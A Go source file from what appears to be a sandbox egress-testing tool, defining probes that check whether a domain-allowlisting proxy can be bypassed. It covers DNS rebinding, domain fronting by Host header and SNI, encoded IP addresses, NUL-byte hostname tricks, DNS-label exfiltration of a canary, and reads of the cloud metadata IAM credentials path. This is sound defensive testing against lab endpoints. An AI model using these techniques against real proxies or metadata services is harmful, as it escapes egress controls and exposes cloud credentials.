package steps

import (
	"github.com/gatehouse-dev/gatehouse/internal/lab"
	"github.com/gatehouse-dev/gatehouse/internal/probe/wire"
)

// Attempts through the proxy the sandbox's environment names (probe
// KindProxy). Teams allow egress by domain through a proxy; these are the
// ways domain allowlists are known to leak. Each carries the session
// canary in its path (and the probe's session header), so whatever lab
// endpoint the proxy delivers it to records whose it was.
var (
	cbName   = lab.CallbackLabName
	infName  = lab.InferenceLabName
	cbPath   = func(c string) string { return "/x/" + c }
	metaPath = "/latest/meta-data/iam/security-credentials/gatehouse-role"
)

func viaHTTP(url string) wire.Step {
	return wire.Step{Kind: wire.KindProxy, Via: wire.ViaHTTP, Method: "GET", Target: url}
}

func tunnel(via, target, inner string) wire.Step {
	return wire.Step{Kind: wire.KindProxy, Via: via, Method: "GET", Target: target, Inner: inner}
}

// proxyCallback: "reach the callback server" through the proxy.
var proxyCallback = family{
	// A forbidden name asked plainly: the baseline every proxy must refuse.
	"proxy-http":         func(c string) wire.Step { return viaHTTP("http://" + cbName + cbPath(c)) },
	"proxy-connect-name": func(c string) wire.Step { return tunnel(wire.ViaConnect, cbName+":80", "http://"+cbName+cbPath(c)) },
	"proxy-socks-name":   func(c string) wire.Step { return tunnel(wire.ViaSOCKS5, cbName+":80", "http://"+cbName+cbPath(c)) },
	"proxy-socks-ip": func(c string) wire.Step {
		return tunnel(wire.ViaSOCKS5, lab.CallbackV4+":80", "http://"+lab.CallbackV4+cbPath(c))
	},
	// An allowed name whose second answer is the callback: a proxy that
	// checks one lookup and connects after another is sent there.
	"proxy-rebind": func(c string) wire.Step {
		s := tunnel(wire.ViaConnect, lab.RebindLabName+":80", "http://"+lab.RebindLabName+cbPath(c))
		s.Again = true // the first lookup answers the allowed address, later ones the forbidden
		return s
	},
	// Domain fronting inside a tunnel to the allowed name: plain HTTP with
	// the callback's Host; TLS whose server name is the callback's; TLS to
	// the allowed name carrying the callback's Host; an absolute-form
	// request for the callback. Only a proxy that routes by what is inside
	// delivers them to the callback.
	"proxy-front-host": func(c string) wire.Step {
		s := tunnel(wire.ViaConnect, infName+":80", "http://"+infName+cbPath(c))
		s.Headers = map[string]string{"Host": cbName}
		return s
	},
	"proxy-front-sni": func(c string) wire.Step {
		s := tunnel(wire.ViaConnect, infName+":443", "https://"+infName+cbPath(c))
		s.SNI = cbName
		return s
	},
	"proxy-front-tls-host": func(c string) wire.Step {
		s := tunnel(wire.ViaConnect, infName+":443", "https://"+infName+cbPath(c))
		s.Headers = map[string]string{"Host": cbName}
		return s
	},
	"proxy-absolute-in-tunnel": func(c string) wire.Step {
		s := tunnel(wire.ViaConnect, infName+":80", "http://"+cbName+cbPath(c))
		s.Absolute = true
		return s
	},
	// The allowed host answers 302 to the callback; the probe follows
	// through the proxy.
	"proxy-redirect": func(c string) wire.Step {
		s := viaHTTP("http://" + infName + "/redirect?to=http://" + cbName + cbPath(c))
		s.Follow = true
		return s
	},
	// The callback's address in forms getaddrinfo accepts and string
	// matching does not: decimal, hex, IPv4-mapped IPv6, a two-part short
	// form (0xcb.0x710a is 203.0.113.10).
	"proxy-ip-decimal": func(c string) wire.Step { return viaHTTP("http://3405803786" + cbPath(c)) },
	"proxy-ip-hex":     func(c string) wire.Step { return viaHTTP("http://0xcb00710a" + cbPath(c)) },
	"proxy-ip-mapped":  func(c string) wire.Step { return viaHTTP("http://[::ffff:" + lab.CallbackV4 + "]" + cbPath(c)) },
	"proxy-ip-short":   func(c string) wire.Step { return viaHTTP("http://0xcb.0x710a" + cbPath(c)) },
	// A NUL byte ends the name for a C resolver but not for a suffix check.
	"proxy-nul-connect": func(c string) wire.Step {
		return tunnel(wire.ViaConnect, cbName+"\x00."+infName+":80", "http://"+cbName+cbPath(c))
	},
	"proxy-nul-socks": func(c string) wire.Step {
		return tunnel(wire.ViaSOCKS5, cbName+"\x00."+infName+":80", "http://"+cbName+cbPath(c))
	},
}

// proxyDNS: labels under an allowed wildcard carry the canary; the proxy's
// own resolver does the lookup, and the lab's authority records it.
var proxyDNS = family{
	"proxy-label-http": func(c string) wire.Step { return viaHTTP("http://" + c + ".x." + infName + "/") },
	"proxy-label-connect": func(c string) wire.Step {
		s := tunnel(wire.ViaConnect, c+".x."+infName+":80", "")
		s.Payload = "GATEHOUSE " + c + "\r\n\r\n"
		return s
	},
	"proxy-label-socks": func(c string) wire.Step {
		s := tunnel(wire.ViaSOCKS5, c+".x."+infName+":80", "")
		s.Payload = "GATEHOUSE " + c + "\r\n\r\n"
		return s
	},
}

// proxyMetadata: cloud metadata as the proxied URL, by address, by an
// allowlisted-looking name, in decimal, and by rebinding.
var proxyMetadata = family{
	"proxy-metadata":         func(c string) wire.Step { return viaHTTP("http://" + lab.MetadataV4 + metaPath) },
	"proxy-metadata-name":    func(c string) wire.Step { return viaHTTP("http://" + lab.MetadataLabName + metaPath) },
	"proxy-metadata-decimal": func(c string) wire.Step { return viaHTTP("http://2852039166" + metaPath) },
	"proxy-metadata-rebind": func(c string) wire.Step {
		s := tunnel(wire.ViaConnect, lab.RebindMetadataLabName+":80", "http://"+lab.RebindMetadataLabName+metaPath)
		s.Again = true
		return s
	},
}

// withProxy adds the proxy attempts to the network families: one explicit
// table, built once, no init-time registration.
func withProxy(base map[string]family) map[string]family {
	for fam, add := range map[string]family{
		"reach the callback server":           merge(proxyCallback, allowedAttempts),
		"leak the session canary through DNS": proxyDNS,
		"read cloud metadata":                 proxyMetadata,
	} {
		for n, mk := range add {
			base[fam][n] = mk
		}
	}
	return base
}

func merge(fs ...family) family {
	out := family{}
	for _, f := range fs {
		for n, mk := range f {
			out[n] = mk
		}
	}
	return out
}
